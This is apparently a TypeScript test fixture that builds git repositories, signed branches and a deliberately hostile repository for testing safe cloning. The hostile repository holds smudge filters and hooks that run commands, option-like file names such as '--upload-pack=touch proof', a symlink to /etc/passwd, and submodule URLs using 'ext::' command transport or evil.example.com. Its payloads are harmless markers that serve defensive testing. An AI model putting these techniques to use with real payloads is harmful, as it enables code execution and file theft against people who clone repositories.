import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** Commits of the repositories below a folder. */
export interface Repositories {
  readonly root: string;
  /** On main, older than its newest. */
  readonly first: string;
  /** The newest of main, and of the tag v1. */
  readonly newest: string;
  /** Of branches signed by alice, by mallory and by nobody. */
  readonly byAlice: string;
  readonly byMallory: string;
  /** An allowed_signers file that names alice. */
  readonly allowedSigners: string;
}

/** Makes `team/code.git`, `team/hostile.git` and `bare.git`, whose address without its ending is elsewhere. */
export function makeRepositories(root: string): Repositories {
  const work = join(root, 'work');
  git(root, 'init', '-q', '-b', 'main', work);
  const first = commit(work, 'train.py', 'print("first")\n');
  const newest = commit(work, 'train.py', 'print("newest")\n');
  git(work, 'tag', '-a', '-m', 'one', 'v1');
  git(work, 'branch', 'feature/x', first);
  const alice = makeKey(root, 'alice');
  const byAlice = signedBranch(work, 'alice', join(root, 'alice'));
  makeKey(root, 'mallory');
  const byMallory = signedBranch(work, 'mallory', join(root, 'mallory'));
  git(root, 'clone', '-q', '--bare', work, join(root, 'team/code.git'));
  git(root, 'clone', '-q', '--bare', work, join(root, 'bare.git'));
  makeHostile(root);
  git(root, 'init', '-q', '--bare', join(root, 'team/empty.git'));
  return { root, first, newest, byAlice, byMallory, allowedSigners: `alice@example.com namespaces="git" ${alice}` };
}

/** Everything that a repository may hold to get at whoever clones it. */
function makeHostile(root: string): void {
  const work = join(root, 'hostile');
  git(root, 'init', '-q', '-b', 'main', work);
  const proof = '/workspace/repo/proof';
  writeFileSync(join(work, '.gitattributes'), '* filter=evil diff=evil\n');
  writeFileSync(join(work, '.gitconfig'), `[filter "evil"]\n  smudge = touch ${proof}\n`);
  writeFileSync(join(work, '.lfsconfig'), '[lfs]\n  url = https://evil.example.com/\n');
  writeFileSync(join(work, '-rf'), 'a name like an option\n');
  writeFileSync(join(work, '--upload-pack=touch proof'), 'another\n');
  symlinkSync('/etc/passwd', join(work, 'passwd'));
  symlinkSync('../home', join(work, 'home'));
  mkdirSync(join(work, 'hooks'));
  for (const hook of ['post-checkout', 'post-merge', 'reference-transaction']) {
    writeFileSync(join(work, 'hooks', hook), `#!/bin/sh\ntouch ${proof}\n`, { mode: 0o755 });
  }
  commit(work, 'train.py', 'print("hostile")\n');
  const sub = git(work, 'rev-parse', 'HEAD').trim();
  for (const [branch, url] of Object.entries(SUBMODULES)) {
    git(work, 'checkout', '-q', '-b', branch, 'main');
    writeFileSync(join(work, '.gitmodules'), `[submodule "sub"]\n  path = sub\n  url = ${url}\n`);
    git(work, 'update-index', '--add', '--cacheinfo', `160000,${sub},sub`);
    git(work, 'add', '.gitmodules');
    git(work, 'commit', '-q', '-m', branch);
    git(work, 'reset', '-q', '--hard');
  }
  git(work, 'checkout', '-q', 'main');
  git(root, 'clone', '-q', '--bare', work, join(root, 'team/hostile.git'));
}

/** Where submodules of the hostile repository are, by branch. */
export const SUBMODULES = {
  'sub-near': '../hostile.git',
  'sub-elsewhere': 'https://evil.example.com/x.git',
  'sub-port': 'https://127.0.0.1:1/x.git',
  'sub-ssh': 'git@evil.example.com:x.git',
  'sub-file': '/etc',
  'sub-ext': 'ext::touch proof',
} as const;

function signedBranch(work: string, name: string, key: string): string {
  git(work, 'checkout', '-q', '-b', `by-${name}`, 'main');
  const hash = commit(work, 'signed.txt', name, ['-c', 'gpg.format=ssh', '-c', `user.signingKey=${key}`], ['-S']);
  git(work, 'checkout', '-q', 'main');
  return hash;
}

function makeKey(root: string, name: string): string {
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', join(root, name)]);
  return readFileSync(join(root, `${name}.pub`), 'utf8');
}

function commit(work: string, file: string, text: string, before: string[] = [], after: string[] = []): string {
  writeFileSync(join(work, file), text);
  git(work, 'add', '-A');
  git(work, ...before, 'commit', '-q', '-m', `change ${file}`, ...after);
  return git(work, 'rev-parse', 'HEAD').trim();
}

function git(folder: string, ...words: string[]): string {
  const env = {
    PATH: process.env['PATH'],
    HOME: folder,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_AUTHOR_NAME: 'a',
    GIT_AUTHOR_EMAIL: 'a@example.com',
    GIT_COMMITTER_NAME: 'a',
    GIT_COMMITTER_EMAIL: 'a@example.com',
  };
  return execFileSync('git', words, { cwd: folder, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'inherit'] });
}
